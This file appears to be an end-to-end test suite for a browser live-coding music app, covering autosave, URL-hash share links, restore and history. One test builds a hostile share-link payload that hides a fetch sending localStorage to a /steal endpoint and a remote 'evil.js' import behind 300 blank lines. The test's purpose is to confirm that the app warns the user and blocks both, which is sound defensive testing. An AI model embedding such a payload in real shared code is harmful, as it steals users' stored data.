/**
 * Code that survives: autosave restores on reload; a shared link loads without overwriting the
 * autosaved code, stays silent until played, and the user's own code can be restored.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeCode } from '../../src/editor/share.ts';
import { openApp, type AppSession } from './harness.ts';
import { editorLines, installProbe, read, typeCode, waitForReading } from './probe.ts';

let session: AppSession;

beforeAll(async () => {
  session = await openApp('storage');
  await session.page.goto(`${session.url}?test`);
  await session.page.evaluate('localStorage.clear()');
});

afterAll(async () => {
  await session?.close();
});

async function open(url: string) {
  const { page } = session;
  await page.goto('about:blank');
  await page.goto(url);
  await page.waitForSelector('.cm-content');
}

/** The app with nothing saved, as on a first start. */
async function openEmpty() {
  await open(`${session.url}?test`);
  await session.page.evaluate('localStorage.clear()');
  await session.page.reload();
  await session.page.waitForSelector('.cm-content');
}

describe('keeping code', () => {
  it('opens with the example tune on a first start', async () => {
    await open(`${session.url}?test`);
    const lines = await editorLines(session.page);
    expect(lines.join('\n')).toMatch(/\$: s\("/);
  });

  it('restores autosaved code after a reload', async () => {
    const { page } = session;
    await typeCode(page, 'note("c4 e4").s("triangle")');
    await page.waitForTimeout(800);
    await page.reload();
    await page.waitForSelector('.cm-content');
    expect(await editorLines(page)).toEqual(['note("c4 e4").s("triangle")']);
  });

  it('loads a shared link without overwriting the autosave and without playing', async () => {
    const { page } = session;
    const shared = '$: note("g4 b4").s("sine")\n$: s("hh*4")';
    await open(`${session.url}?test#code=${encodeCode(shared)}`);
    expect(await editorLines(page)).toEqual(shared.split('\n'));
    expect(await page.isVisible('#shared-banner')).toBe(true);

    await installProbe(page);
    await page.waitForTimeout(1500);
    const reading = await read(page);
    console.log(`shared link, not played: ${reading.peakDbfs} dBFS peak`);
    expect(reading.peakDbfs).toBeLessThan(-60);
    await page.click('#play'); // it plays when asked: the silence above was not a dead output
    const played = await waitForReading(page, (r) => r.peakDbfs > -40, 5000);
    console.log(`shared link, after Play: ${played.peakDbfs.toFixed(1)} dBFS peak`);
    expect(played.peakDbfs).toBeGreaterThan(-40);
    await page.click('#stop');

    await typeCode(page, 'note("d4")'); // editing shared code must not touch the autosave either
    await page.waitForTimeout(800);
    await page.click('#restore');
    expect(await editorLines(page)).toEqual(['note("c4 e4").s("triangle")']);
    expect(await page.isVisible('#shared-banner')).toBe(false);
    expect(await page.evaluate('location.hash')).toBe('');
  });

  it('never lets a share link replace the saved code when only the hash changes, nor after Restore', async () => {
    const { page } = session;
    await openEmpty();
    await typeCode(page, 'note("a3 c4")');
    await page.waitForTimeout(800);
    // The same tab follows a link to shared code: only the hash changes, the page stays.
    await page.evaluate(`location.hash = ${JSON.stringify(`code=${encodeCode('s("hh*8") // shared')}`)}`);
    await page.waitForSelector('#shared-banner:not([hidden])');
    expect(await editorLines(page)).toEqual(['s("hh*8") // shared']);
    await page.waitForTimeout(1500); // longer than the autosave delay
    expect(await page.evaluate("localStorage.getItem('motif.code')")).toBe('note("a3 c4")');
    await page.click('#restore');
    expect(await editorLines(page)).toEqual(['note("a3 c4")']);
    await page.reload();
    await page.waitForSelector('.cm-content');
    expect(await editorLines(page)).toEqual(['note("a3 c4")']);
  });

  it('saves the code when it is evaluated, before the autosave delay, and keeps a history of evaluated versions', async () => {
    const { page } = session;
    await openEmpty();
    await typeCode(page, 'note("c4").s("sine")');
    await page.keyboard.press('Control+Enter');
    await typeCode(page, 'note("e4").s("sine")');
    await page.keyboard.press('Control+Enter');
    await page.reload(); // at once: no autosave delay has passed since the last keystroke
    await page.waitForSelector('.cm-content');
    expect(await editorLines(page)).toEqual(['note("e4").s("sine")']);
    const options = (await page.evaluate("[...document.querySelectorAll('#history option')].map((o) => o.textContent)")) as string[];
    expect(options).toHaveLength(3);
    expect(options[0]).toBe('History (2)');
    expect(options[1]).toMatch(/^\d\d:\d\d:\d\d · note\("e4"\)\.s\("sine"\)$/);
    expect(options[2]).toMatch(/ · note\("c4"\)\.s\("sine"\)$/);
    await page.selectOption('#history', { index: 2 });
    expect(await editorLines(page)).toEqual(['note("c4").s("sine")']);
    await page.click('#stop');
  });

  it('shows what a hostile link reaches before it runs, runs nothing, sends nothing, and the page loads no remote script', async () => {
    const { page } = session;
    const requests: string[] = [];
    const server = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('globalThis.pwned = true;');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    const violations: string[] = [];
    const onConsole = (message: { text(): string }) => {
      if (message.text().includes('Content Security Policy')) violations.push(message.text());
    };
    page.on('console', onConsole);
    try {
      await open(`${session.url}?test`);
      await page.evaluate('localStorage.clear()');
      await typeCode(page, 'note("c3")');
      await page.waitForTimeout(800);
      const hostile = `note("c4 e4").s("sine")${'\n'.repeat(300)}fetch('http://${host}/steal?' + encodeURIComponent(JSON.stringify(localStorage)))\nimport('http://${host}/evil.js')\nnote("c4")`;
      await open(`${session.url}?test#code=${encodeCode(hostile)}`);
      const summary = (await page.textContent('#shared-summary')) ?? '';
      expect(summary).toContain('303 lines (299 blank)');
      expect(summary).toContain(`reaches ${host}`);
      expect(summary).toMatch(/touches the page: .*localStorage.*fetch.*import/);
      await page.waitForTimeout(1500);
      expect(requests).toEqual([]); // nothing ran: nothing was sent
      expect(await page.evaluate("localStorage.getItem('motif.code')")).toBe('note("c3")');
      // The page's policy refuses scripts from other origins, before any request is made.
      const loaded = await page.evaluate(`import('http://${host}/evil.js').then(() => 'loaded', (error) => String(error))`);
      expect(loaded).not.toBe('loaded');
      expect(requests).toEqual([]);
      expect(violations.some((text) => text.includes('evil.js'))).toBe(true);
      expect(violations.filter((text) => !text.includes('evil.js'))).toEqual([]); // the app itself breaks no rule
    } finally {
      page.off('console', onConsole);
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  it('shares the code through the URL hash', async () => {
    const { page } = session;
    await open(`${session.url}?test`);
    await typeCode(page, 'note("c4 e4").s("triangle")');
    await page.click('#share');
    const hash = (await page.evaluate('location.hash')) as string;
    expect(hash).toBe(`#code=${encodeCode('note("c4 e4").s("triangle")')}`);
    await open(`${session.url}?test${hash}`);
    expect(await editorLines(page)).toEqual(['note("c4 e4").s("triangle")']);
  });
});
